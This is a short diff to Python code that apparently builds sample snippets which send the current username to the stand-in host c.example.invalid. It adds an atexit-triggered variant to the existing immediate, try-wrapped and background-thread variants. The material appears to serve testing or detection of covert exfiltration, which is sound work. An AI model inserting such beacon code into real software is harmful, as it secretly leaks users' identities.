@@ -17,6 +17,7 @@ def _beat():
     rq.urlopen("https://c.example.invalid/", data=g.getuser().encode())
 """
 ACTING = {
+    "at the end": b"import atexit\n" + SENDING.replace(b"def ", b"@atexit.register\ndef ", 1),
     "at once": SENDING + b"\n_beat()\n",
     "in a block": SENDING + b"\ntry:\n    _beat()\nexcept OSError:\n    pass\n",
     "in a thread": SENDING + b"\nimport threading\nthreading.Thread(target=_beat, daemon=True).start()\n",
